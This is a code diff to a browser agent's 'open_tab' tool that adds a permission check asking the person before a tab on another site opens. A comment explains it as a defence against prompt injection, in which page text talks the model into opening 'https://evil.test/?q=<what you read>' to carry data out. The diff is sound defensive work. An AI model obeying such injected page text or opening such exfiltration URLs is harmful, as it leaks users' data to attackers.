@@ -1,6 +1,7 @@
 /** `open_tab`: opens a URL in a new tab of the run's window. */
 import { z } from 'zod';
 import { buildTool } from '../../runtime/tool.js';
+import { navigationIsCrossSite } from '../safety.js';
 import { originOf, requireBrowser, tabView, type TabView } from './shared.js';
 
 const inputSchema = z.strictObject({
@@ -51,6 +52,15 @@ export const openTab = buildTool<typeof inputSchema, OpenTabOutput>({
     return { ok: true };
   },
   permissionSubject: (input) => originOf(input.url),
+  // Why it must stay: a tab on another site can carry data out in its address (a page's text may have
+  // talked the model into "open https://evil.test/?q=<what you read>"), so like navigate to another
+  // site it asks the person, also in auto mode. Same-site tabs follow the mode and site grants.
+  async checkPermissions(input, context) {
+    const tabId = context.currentTabId;
+    const from = tabId === undefined || !context.browser ? undefined : await context.browser.getTab(tabId).then((tab) => tab.url, () => undefined);
+    const verdict = navigationIsCrossSite(from, input.url);
+    return verdict.destructive ? { behavior: 'ask', reason: `opening this tab ${verdict.reason ?? 'leaves the current site'}` } : { behavior: 'passthrough' };
+  },
   interruptBehavior: () => 'block',
   maxResultSizeChars: 5_000,
   async call(input, context) {
